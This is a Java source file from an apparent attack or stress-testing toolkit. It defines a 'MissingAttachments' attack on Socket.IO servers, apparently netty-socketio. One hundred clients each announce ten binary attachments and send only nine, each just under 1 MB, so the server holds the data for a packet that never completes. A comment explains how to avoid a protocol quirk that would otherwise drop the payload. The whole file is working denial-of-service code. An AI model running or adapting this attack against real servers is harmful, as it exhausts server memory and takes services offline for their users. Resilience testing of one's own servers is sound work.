package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.Frames;
import dev.carillon.attacks.raw.RawWebSocket;
import java.io.IOException;
import java.util.Arrays;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** The server must keep the attachments of a packet until all have arrived, which never happens. */
final class MissingAttachments implements Attack {
    private static final int CLIENTS = 100;
    private static final int ANNOUNCED = 10;
    private static final byte[] ATTACHMENT = Frames.binary(attachment());
    private static final String EVENT = IntStream.range(0, ANNOUNCED)
            .mapToObj(number -> "{\"_placeholder\":true,\"num\":" + number + "}")
            .collect(Collectors.joining(",", "45" + ANNOUNCED + "-[\"echo\",", "]"));

    private final String name;
    private final boolean connectFirst;

    private MissingAttachments(String name, boolean connectFirst) {
        this.name = name;
        this.connectFirst = connectFirst;
    }

    static MissingAttachments afterConnect() {
        return new MissingAttachments("missing-attachments", true);
    }

    static MissingAttachments beforeConnect() {
        return new MissingAttachments("attachments-before-connect", false);
    }

    /** Not of zeros: netty-socketio takes a leading zero for a length of an earlier protocol, and drops the attachment. */
    private static byte[] attachment() {
        byte[] bytes = new byte[999_000];
        Arrays.fill(bytes, (byte) 'a');
        return bytes;
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public String summary() {
        return "100 clients announce 10 attachments and send 9 of them, each just under 1 MB, "
                + (connectFirst ? "after" : "before") + " they connect to a namespace";
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(attacker.scaled(CLIENTS), () -> session(attacker));
    }

    private void session(Attacker attacker) throws IOException {
        try (RawWebSocket client = attacker.webSocket()) {
            if (connectFirst) {
                client.connect();
            }
            client.send(EVENT);
            for (int i = 0; i < ANNOUNCED - 1; i++) {
                client.send(ATTACHMENT);
            }
            attacker.count();
            client.drain();
        }
    }
}
